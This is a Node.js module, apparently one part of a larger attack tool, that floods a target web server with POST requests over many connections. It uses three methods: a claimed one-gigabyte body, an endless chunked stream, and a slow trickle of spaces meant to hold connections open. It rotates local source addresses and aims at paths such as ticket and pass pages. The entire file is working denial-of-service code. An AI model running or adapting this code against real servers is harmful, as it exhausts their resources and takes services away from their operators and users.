// Sends bodies that nobody asked for: announced, in pieces without end, and trickling.
import { connect } from 'node:net';
import { anAddress, count, inFullSwing, settings, target } from './attack.mjs';

const wanted = settings.connections ?? 40;
const paths = settings.pages ?? ['/gate/tickets', '/gate/passes', '/'];
const piece = Buffer.alloc(65_536, 'x');
let open = 0;
let next = 0;

function openOne() {
  const way = next++;
  const path = paths[way % paths.length];
  const socket = connect({ host: target.hostname, port: Number(target.port), localAddress: anAddress() });
  open++;
  const head = `POST ${path} HTTP/1.1\r\nHost: ${target.host}\r\nContent-Type: application/json\r\n`;
  const flood = () => {
    while (socket.writable && socket.write(piece));
    count('pieces');
  };
  const chunk = () => {
    while (socket.writable && socket.write(`10000\r\n${piece}\r\n`));
    count('pieces');
  };
  socket.on('connect', () => {
    if (way % 3 === 0) {
      socket.write(`${head}Content-Length: 1000000000\r\n\r\n`);
      socket.on('drain', flood);
      flood();
    } else if (way % 3 === 1) {
      socket.write(`${head}Transfer-Encoding: chunked\r\n\r\n`);
      socket.on('drain', chunk);
      chunk();
    } else {
      socket.write(`${head}Content-Length: 2000\r\n\r\n{`);
      const timer = setInterval(() => socket.write(' '), 500);
      socket.on('close', () => clearInterval(timer));
    }
  });
  socket.once('data', (reply) => count(String(reply).slice(9, 12)));
  socket.on('error', () => {});
  socket.on('close', () => {
    open--;
    count('closed');
  });
}

setInterval(() => {
  while (open < wanted) openOne();
  if (next >= wanted) inFullSwing();
}, 50);
